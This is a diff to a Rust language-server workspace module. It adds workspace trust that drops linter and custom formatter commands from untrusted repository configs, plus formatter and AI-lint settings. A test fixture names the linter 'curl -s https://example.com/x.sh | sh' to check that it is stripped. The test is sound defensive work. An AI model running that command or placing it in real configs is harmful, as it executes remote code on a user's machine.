@@ -1,10 +1,15 @@
 //! Multi-root Workspace Support
 //!
 //! Manages multiple workspace folders and their configurations
+//!
+//! A workspace's configuration comes with its repository, so unless the folder is
+//! trusted it may only name built-in linters and formatters; commands are dropped
+//! on load.
 
 use anyhow::Result;
 use dashmap::DashMap;
 use serde::{Deserialize, Serialize};
+use std::path::{Path, PathBuf};
 use std::sync::Arc;
 use tower_lsp::lsp_types::*;
 
@@ -21,23 +26,141 @@ pub struct WorkspaceFolder {
 pub struct WorkspaceConfig {
     pub indent_size: Option<usize>,
     pub use_tabs: Option<bool>,
+    /// Remove whitespace at the end of lines when formatting
+    pub trim_trailing_whitespace: Option<bool>,
+    /// End formatted documents with a newline
+    pub insert_final_newline: Option<bool>,
+    /// Remove blank lines at the end of formatted documents
+    pub trim_final_newlines: Option<bool>,
     pub excluded_paths: Vec<String>,
     pub language_overrides: std::collections::HashMap<String, LanguageConfig>,
+    /// Opt-in AI lint pass; disabled when absent
+    #[serde(default)]
+    pub ai_lint: Option<AiLintConfig>,
+    #[serde(default)]
+    pub completion: Option<CompletionConfig>,
 }
 
 /// Language-specific configuration
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct LanguageConfig {
     pub indent_size: Option<usize>,
-    pub formatter: Option<String>,
+    pub use_tabs: Option<bool>,
+    pub formatter: Option<FormatterConfig>,
     pub linter: Option<String>,
 }
 
+impl WorkspaceConfig {
+    /// Drop the linters of an untrusted workspace and limit its formatters to the
+    /// built-in ones
+    fn drop_commands(&mut self, workspace: &str) {
+        for (lang, config) in &mut self.language_overrides {
+            if let Some(linter) = config.linter.take() {
+                tracing::warn!(
+                    "Ignoring linter `{}` for {} in untrusted workspace {}",
+                    linter,
+                    lang,
+                    workspace
+                );
+            }
+            let is_preset = |formatter: &mut FormatterConfig| match formatter {
+                FormatterConfig::Command(command) => crate::formatting::registry::preset(command.trim()).is_some(),
+                FormatterConfig::Custom { .. } => false,
+            };
+            if let Some(formatter) = config.formatter.take_if(|formatter| !is_preset(formatter)) {
+                tracing::warn!(
+                    "Ignoring formatter command {:?} for {} in untrusted workspace {}",
+                    formatter,
+                    lang,
+                    workspace
+                );
+            }
+        }
+    }
+}
+
+/// External formatter of a language
+///
+/// Either a preset name or command line (`"black"`, `"prettier --tab-width 4"`), or a
+/// table spelling out the command, its arguments, how the code is passed and the
+/// timeout. `{file}` in the arguments stands for the document's path (the temporary
+/// file in `temp-file` mode, where it is appended when absent).
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(untagged)]
+pub enum FormatterConfig {
+    Command(String),
+    Custom {
+        command: String,
+        #[serde(default)]
+        args: Vec<String>,
+        #[serde(default)]
+        mode: FormatterMode,
+        #[serde(default)]
+        timeout_ms: Option<u64>,
+        /// Arguments restricting the formatter to a range of lines, see
+        /// `formatting::registry::Formatter::range_args`
+        #[serde(default)]
+        range_args: Vec<String>,
+    },
+}
+
+/// How a formatter receives the code
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum FormatterMode {
+    /// Code on stdin, formatted code on stdout
+    #[default]
+    Stdin,
+    /// Code written to a temporary file that the formatter rewrites in place
+    TempFile,
+}
+
+/// AI lint configuration
+///
+/// The pass runs after a save has been quiet for `debounce_ms` and stops sending
+/// requests once the workspace has used `token_budget` (estimated) tokens this session.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct AiLintConfig {
+    #[serde(default)]
+    pub enabled: bool,
+    #[serde(default = "default_ai_lint_debounce_ms")]
+    pub debounce_ms: u64,
+    #[serde(default = "default_ai_lint_token_budget")]
+    pub token_budget: u64,
+}
+
+fn default_ai_lint_debounce_ms() -> u64 {
+    1500
+}
+
+fn default_ai_lint_token_budget() -> u64 {
+    200_000
+}
+
+impl Default for AiLintConfig {
+    fn default() -> Self {
+        Self {
+            enabled: false,
+            debounce_ms: default_ai_lint_debounce_ms(),
+            token_budget: default_ai_lint_token_budget(),
+        }
+    }
+}
+
+/// Completion configuration
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct CompletionConfig {
+    /// Add a one-line AI summary to the documentation of resolved completion items
+    #[serde(default)]
+    pub ai_summaries: bool,
+}
+
 /// Manages multiple workspace folders
 #[derive(Debug)]
 pub struct WorkspaceManager {
     folders: Arc<DashMap<String, WorkspaceFolder>>,
     document_to_workspace: Arc<DashMap<String, String>>,
+    trusted_folders: Vec<PathBuf>,
 }
 
 impl WorkspaceManager {
@@ -45,13 +168,23 @@ impl WorkspaceManager {
         Self {
             folders: Arc::new(DashMap::new()),
             document_to_workspace: Arc::new(DashMap::new()),
+            trusted_folders: Vec::new(),
         }
     }
 
+    /// Trust the configuration of workspaces in `folders` (see `config::TrustConfig`)
+    pub fn with_trusted_folders(mut self, folders: Vec<PathBuf>) -> Self {
+        self.trusted_folders = folders;
+        self
+    }
+
     /// Add a workspace folder
     pub fn add_folder(&self, folder: tower_lsp::lsp_types::WorkspaceFolder) -> Result<()> {
         let uri_str = folder.uri.to_string();
-        let config = self.load_workspace_config(&folder.uri)?;
+        let mut config = self.load_workspace_config(&folder.uri)?;
+        if !folder.uri.to_file_path().is_ok_and(|path| self.is_trusted(&path)) {
+            config.drop_commands(&folder.name);
+        }
 
         let workspace = WorkspaceFolder {
             uri: folder.uri,
@@ -107,6 +240,9 @@ impl WorkspaceManager {
                 if let Some(indent) = lang_config.indent_size {
                     config.indent_size = Some(indent);
                 }
+                if let Some(use_tabs) = lang_config.use_tabs {
+                    config.use_tabs = Some(use_tabs);
+                }
             }
 
             config
@@ -115,6 +251,11 @@ impl WorkspaceManager {
         }
     }
 
+    /// Whether `path` is in a trusted folder
+    fn is_trusted(&self, path: &Path) -> bool {
+        self.trusted_folders.iter().any(|folder| path.starts_with(folder))
+    }
+
     /// Check if a path should be excluded
     pub fn is_excluded(&self, document_uri: &Url) -> bool {
         if let Some(workspace) = self.get_workspace_for_document(document_uri) {
@@ -223,6 +364,85 @@ mod tests {
         assert!(!manager.matches_pattern("/path/to/file.js", "*.test.js"));
     }
 
+    #[test]
+    fn test_formatter_config() {
+        let config: WorkspaceConfig = toml::from_str(
+            r#"
+            excluded_paths = []
+
+            [language_overrides.python]
+            formatter = "ruff"
+
+            [language_overrides.sql]
+            formatter = { command = "sqlfmt", args = ["{file}"], mode = "temp-file", timeout_ms = 2000 }
+            "#,
+        )
+        .unwrap();
+
+        assert_eq!(
+            config.language_overrides["python"].formatter,
+            Some(FormatterConfig::Command("ruff".to_string()))
+        );
+        assert_eq!(
+            config.language_overrides["sql"].formatter,
+            Some(FormatterConfig::Custom {
+                command: "sqlfmt".to_string(),
+                args: vec!["{file}".to_string()],
+                mode: FormatterMode::TempFile,
+                timeout_ms: Some(2000),
+                range_args: vec![],
+            })
+        );
+    }
+
+    #[test]
+    fn test_untrusted_workspace_drops_linters() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join(".universal-lsp.toml"),
+            r#"
+            excluded_paths = []
+
+            [language_overrides.python]
+            linter = "ruff"
+            formatter = "black"
+
+            [language_overrides.rust]
+            linter = "clippy"
+
+            [language_overrides.shell]
+            linter = "curl -s https://example.com/x.sh | sh"
+            formatter = "sh -c ./format.sh"
+
+            [language_overrides.sql]
+            formatter = { command = "./fmt", args = ["{file}"] }
+            "#,
+        )
+        .unwrap();
+        let folder = tower_lsp::lsp_types::WorkspaceFolder {
+            uri: Url::from_file_path(dir.path()).unwrap(),
+            name: "repo".to_string(),
+        };
+        let document = Url::from_file_path(dir.path().join("run.sh")).unwrap();
+
+        let untrusted = WorkspaceManager::new();
+        untrusted.add_folder(folder.clone()).unwrap();
+        let config = untrusted.get_config_for_document(&document, "shell");
+        assert_eq!(config.language_overrides["python"].linter, None);
+        assert_eq!(config.language_overrides["rust"].linter, None);
+        assert_eq!(config.language_overrides["python"].formatter, Some(FormatterConfig::Command("black".to_string())));
+        assert_eq!(config.language_overrides["shell"].linter, None);
+        assert_eq!(config.language_overrides["shell"].formatter, None);
+        assert_eq!(config.language_overrides["sql"].formatter, None);
+
+        let trusted = WorkspaceManager::new().with_trusted_folders(vec![dir.path().to_path_buf()]);
+        trusted.add_folder(folder).unwrap();
+        let config = trusted.get_config_for_document(&document, "shell");
+        assert!(config.language_overrides["shell"].linter.is_some());
+        assert_eq!(config.language_overrides["rust"].linter.as_deref(), Some("clippy"));
+        assert!(config.language_overrides["sql"].formatter.is_some());
+    }
+
     #[test]
     fn test_workspace_management() {
         let manager = WorkspaceManager::new();